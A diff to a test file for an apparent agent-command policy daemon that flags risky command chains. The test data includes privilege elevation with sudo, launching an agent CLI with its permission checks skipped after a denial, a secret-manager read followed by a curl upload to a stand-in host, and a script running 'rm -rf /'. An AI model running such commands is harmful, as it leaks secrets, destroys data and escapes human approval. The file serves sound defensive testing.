@@ -12,7 +12,7 @@ from latch_contracts.records import DenialRecord, VerdictRecord
 from latch_contracts.verdict import Action, Disposition
 from latchd.policy import parse
 
-DISCOVER, ELEVATE, BYPASS = "sudo -l", "sudo -i", "codex exec --dangerously-bypass-approvals-and-sandbox"
+DISCOVER, ELEVATE, BYPASS = "sudo -l", "sudo -i", "claude --dangerously-skip-permissions -p 'go on'"
 ELEVATION = "chain.privilege-discovery-then-elevation"
 DENIED_BYPASS = "chain.permission-denied-then-runtime-bypass"
 MANAGED_EGRESS = "chain.secret-manager-read-then-egress"
@@ -128,9 +128,9 @@ def test_a_matched_typed_denial_arms_the_bypass_chain_and_an_unmatched_one_only_
 
 def test_a_chain_that_proves_no_flow_is_told_and_never_refuses(tmp_path: Path) -> None:
     bench = Bench(tmp_path, b'profile = "observe"')
-    proven(bench, "aws secretsmanager get-secret-value --secret-id prod", "c1")
+    proven(bench, "gcloud secrets versions access latest --secret=db", "c1")
 
-    record = verdict(bench, "curl --data-binary @/tmp/report https://collector.invalid/upload")
+    record = verdict(bench, "curl -T build/report.tgz https://drop.example.test/in/")
 
     assert record.action is Action.ALLOW
     assert MANAGED_EGRESS in [one.rule for one in record.findings]
@@ -178,7 +178,7 @@ def test_a_script_is_judged_by_its_bytes_when_it_is_about_to_run(bench: Bench) -
     script = bench.project / "cleanup.sh"
     script.write_text("#!/bin/sh\nrm -rf /\n")
     harmless = bench.project / "rm-rf-everything.sh"
-    harmless.write_text("#!/bin/sh\nprintf '%s\\n' 'rm -rf /'\n")
+    harmless.write_text("#!/bin/sh\necho 'about to rm -rf /'\n")
 
     refused = verdict(bench, f'bash "{script}"', "c1")
 
